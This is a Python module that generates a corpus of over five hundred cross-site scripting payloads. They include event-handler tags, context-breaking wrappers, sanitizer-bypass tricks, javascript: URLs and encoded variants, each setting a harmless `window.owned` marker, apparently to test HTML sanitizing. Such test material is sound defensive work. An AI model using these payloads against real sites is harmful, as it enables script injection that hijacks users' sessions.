"""Texts that become scripts wherever text is taken for markup; each would set `window.owned`."""

from __future__ import annotations

_TAGS = ("img", "svg", "video", "audio", "body", "iframe", "object", "details", "marquee", "input", "select", "math")
_EVENTS = (
    "onclick",
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onstart",
    "onmouseover",
    "onanimationstart",
    "onpointerenter",
)
_WRAPPERS = ("{}", '">{}', "'>{}", "--></style>{}", "</textarea>{}", "</script>{}", "&lt;{}", "<![CDATA[{}]]>")
_SCRIPTS = (
    "<script>window.owned=1</script>",
    "<scr<script>ipt>window.owned=1</scr</script>ipt>",
    "<a href='javascript:window.owned=1'>x</a>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<style>@import 'javascript:window.owned=1'</style>",
    "<base href='javascript:'>",
    "<meta http-equiv=refresh content='0;url=javascript:window.owned=1'>",
    "<link rel=stylesheet href='data:text/css,*{x:expression(window.owned=1)}'>",
    "<form action='javascript:window.owned=1'><button autofocus>x</button></form>",
    "<svg><script>window.owned=1</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.owned=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.owned=1>'>",
    "<template><img src=x onerror=window.owned=1></template>",
)
_LINES = (
    "javascript:window.owned=1",
    "JaVaScRiPt:window.owned=1",
    "data:text/html,<script>opener.owned=1</script>",
    'https://example.com/"onmouseover=window.owned=1//',
    "https://example.com/'><img src=x onerror=window.owned=1>",
    "http://javascript:window.owned=1@example.com/",
    "{{constructor.constructor('window.owned=1')()}}",
    "${window.owned=1}",
    "[x](javascript:window.owned=1)",
    "\\u003cimg src=x onerror=window.owned=1\\u003e",
    "%3Cscript%3Ewindow.owned=1%3C/script%3E",
    "&#60;script&#62;window.owned=1&#60;/script&#62;",
)


def corpus() -> list[str]:
    """Return more than five hundred payloads."""
    marked = [f"<{tag} src=x href=x autofocus open {event}=window.owned=1>" for tag in _TAGS for event in _EVENTS]
    wrapped = [wrapper.format(payload) for payload in (*marked[::3], *_SCRIPTS) for wrapper in _WRAPPERS]
    return [*_LINES, *marked, *wrapped]
